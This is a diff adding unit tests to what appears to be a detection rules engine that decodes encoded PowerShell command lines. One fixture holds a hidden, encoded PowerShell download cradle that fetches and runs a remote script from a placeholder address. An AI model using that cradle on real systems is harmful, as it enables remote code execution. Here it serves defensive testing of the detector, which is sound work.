@@ -219,3 +219,20 @@ def test_brute_force_addresses_keep_own_first_seen():
     assert set(indicators) == {"198.51.100.1", "203.0.113.77"}
     assert indicators["198.51.100.1"].first_seen == T0 - timedelta(days=2)
     assert indicators["203.0.113.77"].first_seen == T0
+
+
+def test_encoded_powershell_decoded():
+    import base64
+
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    rows = [process("powershell.exe", f"powershell.exe -NoP -W Hidden -Enc {encoded}"),
+            process("powershell.exe", "powershell.exe -Command Get-Date")]
+    [finding] = rules.encoded_powershell(make_collection(process_events=rows))
+    assert finding.facts["scripts"] == [script]
+    assert len(finding.evidence[0].rows) == 1
+
+
+def test_encoded_powershell_ignores_bad_or_short():
+    assert rules.decode_powershell("powershell.exe -enc !!!notbase64!!!") is None
+    assert rules.decode_powershell("powershell.exe -enc QUJDRA==") is None
